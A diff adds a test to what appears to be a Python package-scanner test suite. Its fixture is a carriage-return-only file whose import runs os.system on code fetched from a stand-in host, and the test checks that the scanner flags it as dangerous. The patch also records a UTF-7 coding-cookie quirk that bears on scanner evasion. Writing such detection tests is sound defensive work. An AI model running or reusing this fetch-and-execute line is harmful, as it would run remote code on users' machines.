@@ -216,6 +216,24 @@ def test_a_cr_only_utf7_dropper_is_danger_in_a_package(tmp_path: Path) -> None:
     ), report.findings
 
 
+# The other way round: a cookie on a "\r"-only file's third line, no cookie to the
+# interpreter, was on the one "line" detect_encoding read (a comment first): the scan
+# decoded UTF-7, "+" began a base64 run and garbled the call the import ran.
+_CR_THIRD_LINE_COOKIE = (
+    b"#x\rimport os, urllib.request\r# coding: utf-7\r"
+    b'os.system(urllib.request.urlopen("https://x.example/s").read().decode()+"")\r'
+)
+
+
+def test_a_cookie_on_a_carriage_return_files_third_line_is_no_cookie(tmp_path: Path) -> None:
+    assert _decode(_CR_THIRD_LINE_COOKIE) == (_CR_THIRD_LINE_COOKIE.decode(), None, 0)
+    (tmp_path / "mod.py").write_bytes(_CR_THIRD_LINE_COOKIE)
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    assert any(
+        f.severity is Severity.DANGER and f.rule_id == "CPL-THR-002" for f in report.findings
+    ), report.findings
+
+
 def test_undecodable_first_line_is_the_encoding_declaration_problem() -> None:
     text, problem, line = _decode(b"x = '\xff'\n")
     assert (text, line) == ("x = '\ufffd'\n", 1)
